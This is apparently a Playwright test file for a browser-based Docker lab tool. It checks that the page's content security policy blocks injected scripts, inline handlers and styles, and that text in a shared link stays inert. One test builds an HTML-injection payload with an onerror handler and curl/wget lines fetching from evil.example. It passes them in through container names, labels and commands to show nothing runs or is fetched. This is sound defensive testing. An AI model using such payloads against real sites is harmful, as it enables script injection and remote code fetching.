import { expect, type Page } from '@playwright/test';
import { fragmentOf } from '../../src/formats/link.ts';
import { en } from '../../src/i18n/en.ts';
import { drop } from '../pages/files.ts';
import { LabPage } from '../pages/lab-page.ts';
import { ShareDialog } from '../pages/share-dialog.ts';
import { watch } from '../pages/watch.ts';
import { test } from '../test.ts';

/** Notes whatever the content security policy forbids, from the first script on. */
async function violations(page: Page): Promise<() => Promise<string[]>> {
  const noted: string[] = [];
  await page.exposeFunction('noteViolation', (text: string) => noted.push(text));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sourceFile }) => {
      const { noteViolation } = window as unknown as { noteViolation: (text: string) => void };
      noteViolation(`${violatedDirective} ${blockedURI} ${sourceFile}`);
    });
  });
  return async () => {
    await page.evaluate(() => undefined); // what was reported has come over by then
    return noted;
  };
}

const shop =
  'host1$ docker network create shop\nhost1$ docker run -d --name web --network shop -p 8080:80 nginx\nclient$ curl -s 192.168.65.10:8080';

test('every part of the page keeps to the content security policy', async ({ page, baseURL }) => {
  test.slow();
  const reported = await violations(page);
  const { complaints, elsewhere } = watch(page, baseURL ?? '');
  const lab = new LabPage(page);
  await lab.open();
  await drop(page, 'shop.scenario', shop);
  await expect(lab.outline).toContainText('web');
  await lab.terminal.type('host1', 'for i in 1 2; do echo "n$i" | grep -c n; done | wc -l'); // bash in the page
  await expect(lab.terminal.output).toContainText('2');

  await page.getByRole('heading', { name: 'Hopscope' }).click(); // out of the terminal
  await page.locator('body').press('y');
  await expect(page.getByRole('complementary', { name: en.history.label })).toBeVisible();
  for (const key of ['g', 'm', '?', 'c', 'n', 's', '/', 'Control+k']) {
    await page.locator('body').press(key);
    await expect(page.getByRole('dialog')).toBeVisible();
    await page.keyboard.press('Escape');
    await expect(page.getByRole('dialog')).toBeHidden();
  }
  for (const [menu, item] of [
    [/^Document:/, en.documents.open],
    [/^Document:/, en.commands.about],
    [en.toolbar.send, undefined],
  ] as const) {
    await page.getByRole('button', { name: menu, exact: true }).click();
    if (item !== undefined) await page.getByRole('menuitem', { name: item }).click();
    await expect(page.getByRole('dialog')).toBeVisible();
    // What a dialog brings to the page is in force, without a style element of its own.
    await expect(page.locator('body')).toHaveCSS('overscroll-behavior', 'contain');
    await page.keyboard.press('Escape');
    await expect(page.getByRole('dialog')).toBeHidden();
  }
  await expect(page.locator('style')).toHaveCount(1); // Cytoscape's, which the policy knows by its hash
  for (const level of ['1', '3', '2']) await page.locator('body').press(level);
  await lab.select('web');
  const share = new ShareDialog(page);
  await share.open();
  await share.dialog.getByRole('button', { name: en.share.qr }).click();
  for (const kind of ['png', 'script', 'trace'] as const) await share.save(kind);
  await share.close();
  await page.getByRole('button', { name: en.header.present }).click();
  await expect(page.getByRole('region', { name: en.presenter.label })).toBeVisible();

  expect(await reported()).toEqual([]);
  expect(complaints).toEqual([]);
  expect(elsewhere).toEqual([]);
});

test('no script but the page’s own can run', async ({ page }) => {
  const lab = new LabPage(page);
  await lab.open();
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(policy).toContain("script-src 'self';");
  expect(policy).not.toContain('unsafe-');
  const ran = await page.evaluate(async () => {
    const seen = window as unknown as { ran?: string };
    document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.ran=\'handler\'">');
    const script = document.createElement('script');
    script.textContent = "window.ran = 'inline'";
    document.body.append(script);
    await new Promise((resolve) => setTimeout(resolve, 300));
    return seen.ran;
  });
  expect(ran).toBeUndefined();
});

test('no style but the page’s own can be written into it', async ({ page }) => {
  const lab = new LabPage(page);
  await lab.open();
  const color = await page.evaluate(() => {
    const text = '<p id="styled" style="color: rgb(1, 2, 3)">text</p>';
    document.body.insertAdjacentHTML('beforeend', `<style>#styled { color: rgb(1, 2, 3) }</style>${text}`);
    return getComputedStyle(document.querySelector('#styled') ?? document.body).color;
  });
  expect(color).not.toBe('rgb(1, 2, 3)');
});

test('a link’s texts stay texts, and it makes the page fetch nothing', async ({ page, baseURL }) => {
  const reported = await violations(page);
  const { complaints, elsewhere } = watch(page, baseURL ?? '');
  const image = '<img src=https://evil.example/a.png onerror=document.title=1>';
  const commands = [
    `docker run -d --name web -e "X=${image}" -l "y=${image}" nginx`,
    `echo '${image}'`,
    'curl -s http://evil.example/a.js',
    'wget -q http://evil.example/',
    `docker network create '${image}'`,
    'for i in 1; do curl -s http://evil.example/; done',
  ];
  const history = { seed: 1, commands: commands.map((line) => ({ place: 'host1', line })) };
  const positions = { [`host1/${image}`]: { x: 0, y: 0 } };
  await page.goto(`./#${fragmentOf({ name: image, history, positions })}`);
  const lab = new LabPage(page);
  await expect(lab.outline).toContainText('web');
  await expect(page.getByRole('button', { name: `Document: ${image}` })).toBeVisible();
  await expect(lab.terminal.output).toContainText(image);
  await page.locator('body').press('y');
  await expect(page.getByRole('complementary', { name: en.history.label })).toContainText(image);
  expect(await page.locator('img').count()).toBe(0);
  expect(await page.title()).toBe('Hopscope');
  expect(await reported()).toEqual([]);
  expect(complaints).toEqual([]);
  expect(elsewhere).toEqual([]);
});
